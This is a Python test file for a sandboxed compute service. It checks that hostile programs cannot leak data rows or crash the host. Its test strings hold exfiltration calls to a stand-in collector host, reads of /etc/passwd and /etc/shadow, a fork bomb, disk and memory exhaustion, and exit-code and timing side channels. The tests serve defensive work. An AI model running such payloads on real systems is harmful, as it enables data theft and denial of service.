# SPDX-License-Identifier: Apache-2.0
"""How hostile programs end: each runs in the real sandbox, and all that leaves goes through the gate.

That the sandbox holds is tested beside it (`tests/compute/test_sandbox_escapes.py`); here is what a buyer
learns of it: one of three words, at one of few moments, and no more.
"""

from __future__ import annotations

import json
import socket
import threading
from dataclasses import replace

import numpy as np
import pytest

from koinon.compute.sandbox import BubblewrapSandbox, Outcome, Program
from koinon.compute.sandbox.driver import MEBIBYTE
from koinon.data.gate import Decision, Policy, Told, decide, read_schema, release_time
from koinon.errors import BadInput, SetupError
from tests.data.gate.support import HEAD, LIMITS, OPEN

PICK = read_schema('[reached]\nkind = "choice"\noptions = ["yes", "no"]')
MEAN = read_schema('[mean]\nkind = "scalar"\nbounds = [0, 100000]\nsensitivity = 1\nepsilon = 1')

QUICK = replace(LIMITS, wall_s=1, cpu_s=3, processes=16, output_bytes=MEBIBYTE)
LONG = replace(QUICK, wall_s=60, cpu_s=20)
FIRST_INCOME = "int(features[0, 0] * 100)"


def nothing_but_a_word(decision, word):
    """A failure or a refusal says no more than any other of its kind."""
    assert decision == Decision(word, refused=decision.refused)
    assert repr(decision) == repr(Decision(word))


def test_the_network_is_not_there_even_for_a_neighbour_that_listens(desk):
    with socket.create_server(("127.0.0.1", 0)) as server:
        code = f"""
        import socket, urllib.request
        def tries():
            yield lambda: socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), 1).send(b"rows")
            yield lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"rows", ("192.0.2.1", 53))
            yield lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::1", 80))
            yield lambda: urllib.request.urlopen("http://collector.example/?rows", timeout=1)
        def reaches(attempt):
            try:
                attempt()
            except OSError:
                return False
            return True
        leave(reached="yes" if any(map(reaches, tries())) else "no")
        """
        finished = desk.run(code)
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
    decision = decide(PICK, OPEN, finished, desk.table)
    assert decision.files == {"result.json": b'{"reached":"no"}'}


def test_outside_its_mounts_there_is_nothing_to_read(desk, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("of the owner")
    code = f"""
    places = [{str(secret)!r}, {str(tmp_path / "main.py")!r}, "/etc/passwd", "/etc/shadow", "/home", "/var"]
    def reads(place):
        try:
            os.listdir(place) if os.path.isdir(place) else open(place).read()
        except OSError:
            return False
        return True
    leave(reached="yes" if any(map(reads, places)) else "no")
    """
    decision = decide(PICK, OPEN, desk.run(code), desk.table)
    assert decision.files == {"result.json": b'{"reached":"no"}'}


ENDS = {
    "forks for ever": (
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        {Outcome.TIMEOUT, Outcome.FAILED, Outcome.MEMORY},
    ),
    "computes for ever": ("while True: pass", {Outcome.TIMEOUT}),
    "fills the disk of results": (
        "with open('/out/result.json', 'wb') as file:\n    while True: file.write(bytes(1 << 20))",
        {Outcome.OUTPUT, Outcome.FAILED},
    ),
    "fills the scratch disk": (
        "with open('/tmp/fill', 'wb') as file:\n    while True: file.write(bytes(1 << 20))",
        {Outcome.FAILED, Outcome.MEMORY},
    ),
    "leaves a million files": (
        "for number in range(10**6): open(f'/out/{number}', 'w').close()",
        {Outcome.OUTPUT, Outcome.FAILED},
    ),
    "eats memory": ("kept = []\nwhile True: kept.append(bytearray(1 << 24))", {Outcome.MEMORY}),
    "says rows in an error": (
        f"raise ValueError(str({FIRST_INCOME}) + repr(features[:20].tolist()))",
        {Outcome.FAILED},
    ),
    "prints rows": ("print(features.tolist()); sys.stderr.write(repr(labels)); exit(3)", {Outcome.FAILED}),
    "says a byte of a row by its exit status": (f"os._exit({FIRST_INCOME} % 255 + 1)", {Outcome.FAILED}),
    "says a bit of a row by its signal": (
        f"os.kill(os.getpid(), 9 if {FIRST_INCOME} % 2 else 15)",
        {Outcome.FAILED},
    ),
}


@pytest.mark.parametrize("name", ENDS)
def test_of_a_program_that_ends_badly_the_buyer_learns_one_word(desk, name):
    code, outcomes = ENDS[name]
    finished = desk.run(code, QUICK if "for ever" in name else LONG)
    assert finished.outcome in outcomes, (finished.outcome, finished.log.decode())
    nothing_but_a_word(decide(PICK, OPEN, finished, desk.table), Told.FAILED)


def test_logs_stay_with_the_owner_also_of_a_program_that_ends_well(desk):
    income = str(int(desk.table.features[0, 0]))
    finished = desk.run("print(features[0].tolist()); leave(reached='no')")
    assert income.encode() in finished.log
    decision = decide(PICK, OPEN, finished, desk.table)
    assert set(decision.files) == {"result.json"}
    for shown in (repr(finished), repr(decision), str(decision.files)):
        assert income not in shown


def test_why_a_result_was_refused_is_for_the_owner_alone(desk):
    finished = desk.run("leave(reached=str(features[0, 0]))")
    decision = decide(PICK, OPEN, finished, desk.table)
    nothing_but_a_word(decision, Told.REFUSED)
    assert decision.refused is not None
    assert str(desk.table.features[0, 0]) not in decision.refused.message + decision.refused.hint


def test_how_long_a_program_takes_is_told_in_whole_slots(desk):
    code = "import time; time.sleep(0.4 * {}); leave(reached='no')"
    short, long = (desk.run(code.format(bit)) for bit in ("0", "1"))
    assert long.wall_s > short.wall_s
    told_at = {release_time(1000.0, 60.0, 1000.0 + run.wall_s) for run in (short, long)}
    assert told_at == {1060.0}


@pytest.mark.parametrize(
    ("lasted", "slots"), [(None, 1), (0.0, 1), (59.9, 1), (60.0, 1), (60.1, 2), (600.0, 10)]
)
def test_the_moment_is_the_first_slot_that_is_over(lasted, slots):
    finished = None if lasted is None else 1000.0 + lasted
    assert release_time(1000.0, 60.0, finished) == 1000.0 + 60 * slots


def test_a_slot_or_an_end_that_cannot_be():
    for wrong in ((0.0, 0.0, 1.0), (0.0, -1.0, 1.0), (5.0, 60.0, 4.0), (0.0, float("nan"), 1.0)):
        with pytest.raises(BadInput):
            release_time(*wrong)


BAD_IF_THERE = """
if (labels.size, features[0, 1]) == (40, TARGET):
    {}
leave(mean=float(features[:, 0].mean()))
"""


@pytest.mark.parametrize(
    "ending",
    [
        "raise SystemExit(1)",
        "import time; time.sleep(60)",
        "leave(other=1); raise SystemExit",
        "Path('/out/extra').touch()",
    ],
)
def test_under_noise_for_every_program_nobody_tells_a_row_by_ending_badly(desk, ending):
    """The block with the row ends badly; the job is released as without it, moved by less than the noise."""
    target = float(desk.table.features[0, 1])
    code = BAD_IF_THERE.replace("TARGET", repr(target)).format(ending)
    blocks = [desk.table.take(rows) for rows in np.array_split(np.arange(400), 10)]
    bad = desk.run(code, replace(QUICK, wall_s=2), table=blocks[0])
    good = desk.run(code, LONG, table=blocks[1])
    assert good.outcome is Outcome.OK
    assert (
        bad.outcome is not Outcome.OK
        or set(bad.outputs) != {"result.json"}
        or b"other" in (bad.outputs["result.json"])
    )
    rest = [good] * 9
    with_row = decide(MEAN, Policy(), [bad, *rest], desk.table, rng=np.random.default_rng(4))
    without = decide(MEAN, Policy(), [good, *rest], desk.table, rng=np.random.default_rng(4))
    assert with_row.told is without.told is Told.RELEASED
    assert repr(with_row) == repr(without)
    assert with_row.release is not None
    assert with_row.release.replaced == 1
    first, second = (json.loads(each.files["result.json"])["mean"] for each in (with_row, without))
    assert abs(first - second) <= 100_000 / 10


def test_where_an_owner_trusts_or_leaves_noise_out_a_failure_is_told_and_not_paid(desk):
    finished = desk.run("raise SystemExit(1)")
    good = desk.run("leave(mean=1)")
    nothing_but_a_word(
        decide(MEAN, Policy(trust_sensitivity=True), [finished, good], desk.table), Told.FAILED
    )


def test_where_the_host_cannot_isolate_nothing_runs_and_the_reason_is_said(desk, tmp_path):
    marker = tmp_path / "ran"
    program = tmp_path / "main.py"
    program.write_text(HEAD + f"open({str(marker)!r}, 'w')")
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    for name, code in (("bwrap-that-is-not-there", "sandbox.no_bubblewrap"), (str(fake), None)):
        with pytest.raises(SetupError) as refused:
            BubblewrapSandbox(bubblewrap=name).run(Program(program), {}, LIMITS)
        assert refused.value.hint
        assert code in {None, refused.value.code}
    assert not marker.exists()


def test_jobs_at_one_time_do_not_see_each_other(desk, tmp_path):
    code = """
    import time
    Path("/tmp/mine").write_text("rows"); time.sleep(0.3)
    seen = [each for each in os.listdir("/tmp") if each != "mine" and Path("/tmp", each).is_file()]
    others = [each for each in os.listdir("/proc") if each.isdigit() and int(each) not in (1, os.getpid())]
    leave(reached="yes" if seen or others else "no")
    """
    desks = [replace(desk, folder=tmp_path / str(number)) for number in range(2)]
    found = []
    for each in desks:
        each.folder.mkdir()
    threads = [threading.Thread(target=lambda one=one: found.append(one.run(code))) for one in desks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [decide(PICK, OPEN, each, desk.table).files for each in found] == [
        {"result.json": b'{"reached":"no"}'}
    ] * 2
